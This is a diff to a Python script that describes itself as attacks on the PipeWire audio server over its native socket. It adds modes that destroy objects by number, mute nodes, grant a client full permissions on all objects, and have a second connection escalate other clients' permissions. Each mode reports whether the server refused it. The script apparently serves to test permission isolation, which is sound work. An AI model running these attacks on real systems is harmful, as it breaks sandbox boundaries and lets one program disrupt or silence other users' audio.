@@ -1,18 +1,35 @@
-"""Attacks on PipeWire by its native protocol; prints what came of each as one line of words."""
+"""Attacks on PipeWire by its native protocol; prints what came of each as one line of words.
+
+Attacks on objects take them as NUMBER:KIND, which the attack "list" prints where all are seen: on the host.
+"""
 
 import os
 import socket
 import struct
 import sys
 
-TYPES = ("Client", "Device", "Factory", "Link", "Metadata", "Module", "Node", "Port", "Profiler", "SecurityContext")
+READ, WRITE, EXECUTE, METADATA = 0o400, 0o200, 0o100, 0o10
+ANY, NUMBERS = -1, range(300)
+PROPS, OBJECT_PROPS, PROP_MUTE = 2, 0x40002, 0x10004
 
 
 def value(kind, content):
     return struct.pack("=II", len(content), kind) + content + b"\0" * (-len(content) % 8)
 
 
+class Raw(bytes):
+    """A value in the protocol's form."""
+
+
+def silence():
+    """Props with which a node is silent."""
+    switch = value(2, struct.pack("=i", 1))
+    return Raw(value(15, struct.pack("=IIII", OBJECT_PROPS, PROPS, PROP_MUTE, 0) + switch))
+
+
 def pod(item):
+    if isinstance(item, Raw):
+        return bytes(item)
     if isinstance(item, int):
         return value(4, struct.pack("=i", item))
     if isinstance(item, str):
@@ -43,7 +60,8 @@ class Server:
     """A connection; objects 0 to 2 are core, client and registry."""
 
     def __init__(self):
-        path = os.environ["PIPEWIRE_RUNTIME_DIR"] + "/" + os.environ["PIPEWIRE_REMOTE"]
+        directory = os.environ.get("PIPEWIRE_RUNTIME_DIR") or os.environ["XDG_RUNTIME_DIR"]
+        path = directory + "/" + os.environ.get("PIPEWIRE_REMOTE", "pipewire-0")
         self.socket = socket.socket(socket.AF_UNIX)
         self.socket.settimeout(20)
         self.socket.connect(path)
@@ -87,15 +105,26 @@ class Server:
 
     def attempt(self, target, opcode, *fields):
         self.call(target, opcode, *fields)
-        self.next += 1
         self.wait()
         return "refused" if self.errors else "done"
 
+    def attempt_new(self, target, opcode, *fields):
+        """With a new object, whose number is the next one for the server, too, whatever comes of it."""
+        said = self.attempt(target, opcode, *fields, self.next)
+        self.next += 1
+        return said
+
     def bind(self, number, kind):
-        return self.attempt(2, 1, number, f"PipeWire:Interface:{kind}", 3, self.next)
+        return self.attempt_new(2, 1, number, f"PipeWire:Interface:{kind}", 3)
+
+    def permit(self, client):
+        """Has a client get everything: what is any object, and each by its number."""
+        everything = READ | WRITE | EXECUTE | METADATA
+        entries = [item for number in (ANY, *NUMBERS) for item in (number, everything)]
+        return self.attempt(client, 4, 1 + len(NUMBERS), *entries)
 
     def create(self, factory, kind, properties):
-        return self.attempt(0, 6, factory, f"PipeWire:Interface:{kind}", 3, properties, self.next)
+        return self.attempt_new(0, 6, factory, f"PipeWire:Interface:{kind}", 3, properties)
 
 
 def names(server):
@@ -108,20 +137,45 @@ def names(server):
     return " ".join(sorted(seen))
 
 
+def objects(words):
+    """Of words such as 34:Node."""
+    return [(int(number), kind) for number, kind in (word.split(":") for word in words)]
+
+
+def on_each(server, targets, method, *fields):
+    """What comes of calling a method of each."""
+    said = []
+    for number, kind in targets:
+        new = server.next
+        bound = server.bind(number, kind)
+        said.append(bound if bound == "refused" else server.attempt(new, method, *fields))
+    return " ".join(said)
+
+
 def main():
-    attack = sys.argv[1]
+    attack, targets = sys.argv[1], objects(sys.argv[2:])
     server = Server()
     if attack == "see":
         print(names(server))
+    elif attack == "list":
+        print(" ".join(f"{number}:{kind}" for number, (kind, _) in sorted(server.globals.items())))
     elif attack == "bind":
-        # Whatever was not told of, by its number.
-        bound = {number for number in range(200) if number not in server.globals
-                 for kind in TYPES if server.bind(number, kind) == "done"}
-        print("bound", sorted(bound))
+        print(" ".join(server.bind(number, kind) for number, kind in targets))
+    elif attack == "destroy":
+        print(" ".join(server.attempt(2, 2, number) for number, _ in targets))
+    elif attack == "mute":
+        print(on_each(server, targets, 4, Raw(value(3, struct.pack("=I", PROPS))), 0, silence()))
     elif attack == "permissions":
-        # Its own, with everything: what is any object, and each by its number.
-        entries = [item for number in (-1, *range(200)) for item in (number, 0o710)]
-        said = server.attempt(1, 4, 201, *entries)
+        said = server.permit(1)
+        server.wait()
+        print(said, names(server))
+    elif attack == "accomplice":
+        # For each client, whatever its number, its own first one among them.
+        other, said = Server(), "refused"
+        for number in NUMBERS:
+            new = other.next
+            if other.bind(number, "Client") == "done" and other.permit(new) == "done":
+                said = "done"
         server.wait()
         print(said, names(server))
     elif attack == "properties":
@@ -142,6 +196,8 @@ def main():
             "session": ("Session", {}),
         }
         print(" ".join(f"{name}:{server.create(name, *what)}" for name, what in tried.items()))
+    else:
+        sys.exit(f"no attack {attack}")
 
 
 main()
